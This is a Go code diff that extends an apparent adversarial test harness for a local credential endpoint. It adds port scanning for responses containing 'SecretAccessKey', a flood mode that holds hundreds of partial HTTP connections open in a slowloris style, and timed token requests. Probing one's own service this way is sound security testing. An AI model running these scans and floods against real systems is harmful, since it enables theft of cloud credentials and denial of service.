@@ -28,17 +28,32 @@ func attack(how string, args []string) int {
 	case "scan": // the ports around one of the machine's own address, for credentials
 		middle, _ := strconv.Atoi(args[0])
 		for port := max(1, middle-500); port < min(middle+500, 1<<16); port++ {
-			knock(port, "")
+			if knock(port, "") {
+				fmt.Printf("GOT credentials at %d\n", port)
+			}
 		}
 		fmt.Println("scanned")
 	case "flood": // one port, until standard input ends
 		go func() { _, _ = io.Copy(io.Discard, os.Stdin); os.Exit(0) }()
 		port, _ := strconv.Atoi(args[0])
 		fmt.Println("flooding")
-		for {
-			knock(port, "")
-			knock(port, "Authorization: "+strings.Repeat("0", 64)+"\r\n")
+		if len(args) > 1 { // with idle connections, and beginnings of requests
+			go hold(port, "")
+			go hold(port, "GET "+endpointPath+" HTTP/1.1\r\nHost: ")
 		}
+		for {
+			if knock(port, "") || knock(port, "Authorization: "+strings.Repeat("0", 64)+"\r\n") {
+				fmt.Println("GOT credentials")
+			}
+		}
+	case "ask": // with the token, as a client does
+		port, _ := strconv.Atoi(args[0])
+		for range 200 {
+			if began := time.Now(); !knock(port, "Authorization: "+args[1]+"\r\n") {
+				fmt.Println("GOT no answer after", time.Since(began))
+			}
+		}
+		fmt.Println("asked")
 	case "connect": // to a socket
 		conn, err := net.Dial("unix", args[0])
 		if err != nil {
@@ -59,19 +74,31 @@ func attack(how string, args []string) int {
 	return 0
 }
 
-// knock asks for credentials at a port.
-func knock(port int, header string) {
-	conn, err := net.DialTimeout("tcp4", "127.0.0.1:"+strconv.Itoa(port), time.Second)
+// hold keeps connections with the beginning of a request open.
+func hold(port int, text string) {
+	var held [300]net.Conn
+	for n := 0; ; n = (n + 1) % len(held) {
+		if held[n] != nil {
+			_ = held[n].Close()
+		}
+		if conn, err := net.DialTimeout("tcp4", "127.0.0.1:"+strconv.Itoa(port), time.Second); err == nil {
+			held[n] = conn
+			_, _ = io.WriteString(conn, text)
+		}
+	}
+}
+
+// knock asks for credentials at a port. It reports whether it got them.
+func knock(port int, header string) bool {
+	conn, err := net.DialTimeout("tcp4", "127.0.0.1:"+strconv.Itoa(port), 5*time.Second)
 	if err != nil {
-		return
+		return false
 	}
 	defer conn.Close()
-	_ = conn.SetDeadline(time.Now().Add(time.Second))
+	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
 	_, _ = io.WriteString(conn, "GET "+endpointPath+" HTTP/1.1\r\nHost: x\r\n"+header+"\r\n")
 	answer, _ := io.ReadAll(io.LimitReader(conn, 4096))
-	if strings.Contains(string(answer), "SecretAccessKey") {
-		fmt.Printf("GOT credentials at %d\n", port)
-	}
+	return strings.Contains(string(answer), "SecretAccessKey")
 }
 
 // lookInto tries every way into a process that a user has.
